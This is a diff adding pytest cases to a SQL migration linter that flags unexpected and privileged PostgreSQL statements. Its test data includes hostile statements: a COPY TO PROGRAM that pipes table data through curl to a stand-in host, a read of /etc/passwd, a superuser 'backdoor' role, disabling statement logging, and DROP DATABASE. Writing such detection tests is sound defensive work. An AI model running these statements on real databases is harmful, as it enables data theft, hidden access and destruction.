@@ -119,3 +119,40 @@ def test_it_reports_json_ready_dicts() -> None:
     (statement,) = data["statements"]
     assert statement["locks"][0]["mode"] == "SHARE" and statement["locks"][0]["blocks_writes"] is True
     assert {f["rule"] for f in statement["findings"]} == {"create-index-not-concurrent", "missing-lock-timeout"}
+
+
+@pytest.mark.parametrize(("sql", "expected"), [
+    ("SELECT 'injected-from-table-name'", ("unexpected-statement", "warning")),
+    ("SELECT pg_terminate_backend(pid) FROM pg_stat_activity", ("unexpected-statement", "warning")),
+    ("NOTIFY deploys", ("unexpected-statement", "warning")),
+    ("CALL refresh_everything()", ("unexpected-statement", "warning")),
+    ("COPY orders FROM STDIN", ("unexpected-statement", "warning")),
+    ("EXPLAIN ANALYZE DELETE FROM orders", ("unexpected-statement", "warning")),
+    ("COPY orders TO PROGRAM 'curl -d @- https://evil.example'", ("privileged-statement", "critical")),
+    ("COPY orders FROM '/etc/passwd'", ("privileged-statement", "critical")),
+    ("ALTER SYSTEM SET log_statement = 'none'", ("privileged-statement", "critical")),
+    ("CREATE ROLE backdoor LOGIN SUPERUSER PASSWORD 'x'", ("privileged-statement", "critical")),
+    ("GRANT pg_read_server_files TO app", ("privileged-statement", "critical")),
+    ("SET ROLE postgres", ("privileged-statement", "critical")),
+    ("SET SESSION AUTHORIZATION postgres", ("privileged-statement", "critical")),
+    ("LOAD 'auto_explain'", ("privileged-statement", "critical")),
+    ("DROP DATABASE shop", ("privileged-statement", "critical")),
+])
+def test_it_flags_statements_a_migration_does_not_contain(sql: str, expected: tuple[str, str]) -> None:
+    report = lint_sql(sql)
+    assert [(f.rule, f.severity.value) for f in report.findings if f.rule.endswith("-statement")] == [expected]
+    assert all(f.safe_alternative for f in report.findings)
+
+
+@pytest.mark.parametrize("sql", [
+    "SELECT setval('orders_id_seq', (SELECT max(id) FROM orders))",
+    "SELECT pg_advisory_xact_lock(42)",
+    "SELECT * INTO orders_copy FROM orders",
+    "RESET ROLE",
+    "GRANT SELECT ON orders TO reporting",
+    "COMMENT ON TABLE orders IS 'the orders'",
+    "CREATE EXTENSION IF NOT EXISTS pg_trgm",
+    "INSERT INTO orders (id) VALUES (1)",
+])
+def test_it_expects_what_migrations_do(sql: str) -> None:
+    assert not [f for f in lint_sql(sql).findings if f.rule.endswith("-statement")]
